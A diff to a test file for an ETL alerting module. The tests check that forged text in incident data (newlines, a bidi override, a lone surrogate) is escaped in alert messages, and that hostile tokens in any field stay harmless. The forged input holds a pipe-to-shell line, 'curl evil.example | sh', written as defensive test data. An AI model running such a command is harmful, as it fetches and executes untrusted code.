@@ -12,6 +12,7 @@ from etl.alerting.incidents import Incident
 from etl.alerting.messages import Halt, Message, Places, compose, compose_end
 from etl.mishaps import without_secrets
 from etl.settings import Settings
+from tests.tokens import HOSTILE, is_harmless
 
 SINCE = datetime(2020, 5, 5, 1, 2, 3, tzinfo=UTC)
 HALT = Halt(
@@ -63,9 +64,18 @@ def test_what_comes_from_data_stays_in_its_line() -> None:
     forged = "store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800"
     text = compose(replace(HALT, error=forged, facts=(forged,)), PLACES).text
     assert [line for line in text.splitlines() if "evil" in line] == [
-        "  store 6 is missing  To run:   curl evil .example | sh ",
-        "  - store 6 is missing  To run:   curl evil .example | sh ",
+        r"  store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800",
+        r"  - store 6 is missing\n\nTo run:\n  curl evil\u202e.example | sh\ud800",
     ]
+
+
+def test_every_part_of_a_message_is_harmless() -> None:
+    halt = Halt(HALT.day, HOSTILE, HOSTILE, HOSTILE, SINCE, HOSTILE, (HOSTILE,), (HOSTILE,))
+    before = replace(TOLD, station=HOSTILE, gate=HOSTILE, error=HOSTILE)
+    for message in (compose(halt, Places(HOSTILE, HOSTILE), before), compose_end(before, HOSTILE)):
+        assert message.subject.isprintable()
+        assert is_harmless(message.text)
+        assert [line for line in message.text.splitlines() if line.startswith("ERROR")] == []
 
 
 @pytest.mark.parametrize(("known", "news"), [
